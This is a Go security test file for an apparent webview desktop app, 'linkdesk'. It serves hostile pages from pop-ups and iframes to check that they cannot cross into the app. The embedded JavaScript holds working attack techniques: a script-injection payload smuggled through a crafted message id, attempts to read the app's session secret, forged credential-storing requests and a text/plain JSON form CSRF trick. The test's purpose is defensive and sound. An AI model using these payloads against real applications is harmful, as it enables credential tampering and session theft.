package session_test

// The page↔Go boundary under attack, in the real window: hostile pages in
// every place a foreign frame can be — a bank pop-up, an iframe inside it,
// a cross-origin iframe of the main view, and the main view itself after a
// navigation — try every way in: crafted messages to webview_go's
// "external" handler (whose bound-call reply would paste their id into a
// script in linkdesk's page), calls to linkdesk's call route with and
// without guessed secrets, a text/plain JSON form, reading the page and its
// secret. None may run script in linkdesk's page or reach Go, and the
// keychain must not change. A control shows the attack is real: with a
// webview_go binding in the window, the same pop-up runs script in the page.

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"linkdesk/app/config"
	"linkdesk/app/internal/wait"
	"linkdesk/app/keychain"
	"linkdesk/app/session"
	"linkdesk/app/sim"
	"linkdesk/app/ui"
)

// hostileScript is what every hostile page runs. Query: app (linkdesk's
// origin), ctx (where it runs), frame (a URL to load in an iframe of its
// own, optional). It reports each step to its own server.
const hostileScript = `(async () => {
  const q = new URLSearchParams(location.search);
  const app = q.get("app"), ctx = q.get("ctx");
  const say = (k, v) => fetch("/report?ctx=" + encodeURIComponent(ctx) + "&k=" + encodeURIComponent(k) + "&v=" + encodeURIComponent(String(v)));
  if (q.get("frame")) { const f = document.createElement("iframe"); f.src = q.get("frame"); document.body.append(f); }
  const payload = 'x";document.documentElement.dataset.pwned="' + ctx + '";//';
  const h = window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.external;
  await say("handler", typeof h);
  const creds = {environment: "production", client_id: "evil-" + ctx, client_secret: "evil-secret-" + ctx};
  for (const method of ["linkdesk_rpc", "storeCredentials", "switchEnvironment", "listCustomers", "info", "e2e_report", "ready"]) {
    const params = method === "linkdesk_rpc" ? ["guessed-secret", payload, "storeCredentials", creds] : [creds];
    for (const m of [JSON.stringify({id: payload, method, params}), JSON.stringify({id: 1, method, params}), payload]) {
      try { h && h.postMessage(m); } catch (e) {}
      try { window.external && window.external.invoke && window.external.invoke(m); } catch (e) {}
    }
  }
  let secret = "unread";
  for (const w of [window.opener, window.parent, window.top]) {
    try { if (w && w !== window) secret = w.document.querySelector('meta[name="linkdesk-session"]').content; } catch (e) {}
  }
  await say("secret", secret);
  const tries = [
    ["storeCredentials", creds, {"Content-Type": "text/plain"}, "no-cors"],
    ["storeCredentials", creds, {"Content-Type": "application/json", "X-Linkdesk-Secret": secret}, "cors"],
    ["switchEnvironment", {environment: "sandbox"}, {"Content-Type": "text/plain"}, "no-cors"],
    ["switchEnvironment", {environment: "sandbox"}, {"Content-Type": "application/json", "X-Linkdesk-Secret": secret}, "cors"],
    ["listCustomers", {}, {"Content-Type": "application/json", "X-Linkdesk-Secret": secret}, "cors"],
  ];
  for (const [m, p, headers, mode] of tries) {
    let r = "";
    try {
      const res = await fetch(app + "/call/" + m, {method: "POST", mode, credentials: "include", headers, body: JSON.stringify(p)});
      r = res.type + " " + res.status + (mode === "cors" ? " " + (await res.text()) : "");
    } catch (e) { r = "error " + e.message; }
    await say("fetch " + m + " " + mode, r);
  }
  try { const res = await fetch(app + "/", {credentials: "include"}); await say("read page", res.status + " " + (await res.text()).slice(0, 60)); } catch (e) { await say("read page", "error"); }
  const sink = document.createElement("iframe");
  sink.name = "sink-" + ctx;
  const f = document.createElement("form");
  f.method = "POST"; f.enctype = "text/plain"; f.action = app + "/call/storeCredentials"; f.target = sink.name;
  const i = document.createElement("input");
  i.name = JSON.stringify(creds).slice(0, -1) + ',"x":"';
  i.value = '"}';
  f.append(i);
  document.body.append(sink, f);
  f.submit();
  await new Promise((r) => setTimeout(r, 700));
  await say("done", "1");
})();`

// hostileSite serves hostile pages on two origins (127.0.0.1:P, which is
// the same site as linkdesk's own origin, and localhost:P) and collects
// their reports.
type hostileSite struct {
	*httptest.Server
	mu      sync.Mutex
	reports map[string]map[string]string // ctx → step → value
}

func newHostileSite(t *testing.T) *hostileSite {
	h := &hostileSite{reports: map[string]map[string]string{}}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			q := r.URL.Query()
			h.mu.Lock()
			if h.reports[q.Get("ctx")] == nil {
				h.reports[q.Get("ctx")] = map[string]string{}
			}
			h.reports[q.Get("ctx")][q.Get("k")] = q.Get("v")
			h.mu.Unlock()
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>not linkdesk</title><body>hostile page<script>`+hostileScript+`</script>`)
	}))
	t.Cleanup(h.Close)
	return h
}

// other is the site's second origin (localhost instead of 127.0.0.1).
func (h *hostileSite) other() string { return strings.Replace(h.URL, "127.0.0.1", "localhost", 1) }

// page is the URL of a hostile page at origin for ctx.
func (h *hostileSite) page(origin, ctx, app, frame string) string {
	q := url.Values{"ctx": {ctx}, "app": {app}}
	if frame != "" {
		q.Set("frame", frame)
	}
	return origin + "/p?" + q.Encode()
}

// wait waits until the page in ctx has finished, and returns its reports.
func (h *hostileSite) wait(t *testing.T, ctx string) map[string]string {
	t.Helper()
	var out map[string]string
	wait.For(t, 20*time.Second, "the hostile page in "+ctx+" to finish", func() (bool, error) {
		h.mu.Lock()
		defer h.mu.Unlock()
		r := h.reports[ctx]
		out = map[string]string{}
		for k, v := range r {
			out[k] = v
		}
		return r != nil && r["done"] == "1", fmt.Errorf("reports: %v", out)
	})
	return out
}

// boundaryApp starts linkdesk on the simulator with a keychain that must
// stay empty, and (extra) origins the hostile pages may be shown at as if
// they were Plaid's: in the main view's allow-list and the page's frame-src.
func boundaryApp(t *testing.T, store keychain.Store, extra ...string) *app {
	t.Helper()
	cfg, err := config.LoadFrom(func(k string) (string, bool) {
		if k == config.VarEnvironment {
			return "sim", true
		}
		return "", false
	})
	if err != nil {
		t.Fatal(err)
	}
	return startAppConfig(t, cfg, sim.Options{}, store, func(s *session.Session) {
		if len(extra) == 0 {
			return
		}
		e, err := s.Env()
		if err != nil {
			t.Fatal(err)
		}
		tg := e.Target
		s.Navigation.Configure(append(append([]string{s.Server.URL}, tg.PlaidOrigins()...), extra...), e.RedirectURI)
		csp := strings.Replace(ui.PageCSP(tg.PlaidScriptURL), "frame-src ", "frame-src "+strings.Join(extra, "/ ")+"/ ", 1)
		s.Server.SetPage(ui.PageConfig{Environment: "sim", PlaidScriptURL: tg.PlaidScriptURL, Version: "e2e", CSP: csp})
	})
}

// checkUntouched fails when anything hostile got through: script ran in
// linkdesk's page (when it is still shown), a call reached Go, the keychain
// or the environment changed, the page or its secret was read.
func checkUntouched(t *testing.T, a *app, store keychain.Store, reports map[string]string, pageShown bool) {
	t.Helper()
	if pageShown {
		var pwned string
		a.js(`document.documentElement.dataset.pwned || ""`, &pwned)
		if pwned != "" {
			t.Errorf("script from the hostile page in %q ran in linkdesk's page", pwned)
		}
	}
	if reports["secret"] != "unread" {
		t.Errorf("the hostile page read linkdesk's session secret: %q", reports["secret"])
	}
	for k, v := range reports {
		if strings.HasPrefix(k, "fetch ") && (strings.Contains(v, " 200") || strings.Contains(v, `"environment"`) || strings.Contains(v, `"customers"`)) {
			t.Errorf("%s answered the hostile page: %s", k, v)
		}
		if k == "read page" && strings.Contains(v, "linkdesk") {
			t.Errorf("the hostile page read linkdesk's page: %s", v)
		}
	}
	for _, env := range []string{"sandbox", "production"} {
		if c, err := store.Get(env); err == nil {
			t.Errorf("the keychain gained %s credentials (client id %q)", env, c.ClientID)
		}
	}
	if got := a.s.Info().Environment; got != "sim" {
		t.Errorf("the environment is now %q", got)
	}
	if l := a.logs.String(); strings.Contains(l, "API credentials stored") || strings.Contains(l, "page interactive") && strings.Count(l, "page interactive") > 1 {
		t.Error("a hostile call reached Go (credentials stored, or a second ready)")
	}
}

func TestHostileFramesCannotCrossTheBoundary(t *testing.T) {
	host := newHostileSite(t)
	store := keychain.NewMemory()
	a := boundaryApp(t, store, host.URL, host.other())
	app := a.s.Server.URL

	t.Run("pop-up and an iframe inside it", func(t *testing.T) {
		inner := host.page(host.other(), "popup-iframe", app, "")
		a.js(fmt.Sprintf(`(window.open(%q, "_blank"), true)`, host.page(host.URL, "popup", app, inner)), nil)
		a.waitPopups(1, 10*time.Second)
		for _, ctx := range []string{"popup", "popup-iframe"} {
			r := host.wait(t, ctx)
			if r["handler"] != "object" {
				t.Errorf("%s: webview_go's handler is %q there; the test needs it reachable to prove it is harmless", ctx, r["handler"])
			}
			checkUntouched(t, a, store, r, true)
		}
		a.shot("hostile-popup")
		a.w.ClosePopups(false)
		a.waitPopups(0, 10*time.Second)
	})

	t.Run("cross-origin iframe of the main view", func(t *testing.T) {
		a.js(fmt.Sprintf(`(() => { const f = document.createElement("iframe"); f.src = %q; document.body.append(f); return true; })()`, host.page(host.other(), "main-iframe", app, "")), nil)
		r := host.wait(t, "main-iframe")
		if r["handler"] != "object" {
			t.Errorf("webview_go's handler is %q in the iframe; the test needs it reachable", r["handler"])
		}
		checkUntouched(t, a, store, r, true)
	})

	t.Run("a page the main view was navigated to", func(t *testing.T) {
		// Last: linkdesk's page is gone from the main view afterwards.
		target := host.page(host.URL, "main-view", app, "")
		a.w.Dispatch(func() { a.w.View.Navigate(target) })
		r := host.wait(t, "main-view")
		checkUntouched(t, a, store, r, false)
	})

	// Refusals are logged, a few lines a minute at most.
	if n := strings.Count(a.logs.String(), "ui server: refused"); n == 0 || n > 6 {
		t.Errorf("%d refusal lines logged; want some, and at most 5 plus a summary", n)
	}
}

// The control: the same hostile pop-up, against the same window with one
// webview_go binding registered (what linkdesk used to do), runs its script
// in linkdesk's page. This shows the attack is real in this WebKit, and that
// the test above would see it.
func TestHostilePopupControlWithABinding(t *testing.T) {
	host := newHostileSite(t)
	a := boundaryApp(t, keychain.NewMemory())
	var bindErr error
	done := make(chan struct{})
	a.w.Dispatch(func() {
		defer close(done)
		bindErr = a.w.View.Bind("linkdesk_rpc", func() error { return nil })
	})
	<-done
	if bindErr != nil {
		t.Fatal(bindErr)
	}
	a.js(fmt.Sprintf(`(window.open(%q, "_blank"), true)`, host.page(host.URL, "control", a.s.Server.URL, "")), nil)
	a.waitPopups(1, 10*time.Second)
	host.wait(t, "control")
	var pwned string
	wait.Until(5*time.Second, func() (bool, error) {
		a.js(`document.documentElement.dataset.pwned || ""`, &pwned)
		return pwned != "", nil
	})
	if pwned != "control" {
		t.Fatalf("with a binding, the hostile pop-up's crafted id did not run script in linkdesk's page (pwned=%q): the boundary test could not see the attack", pwned)
	}
}
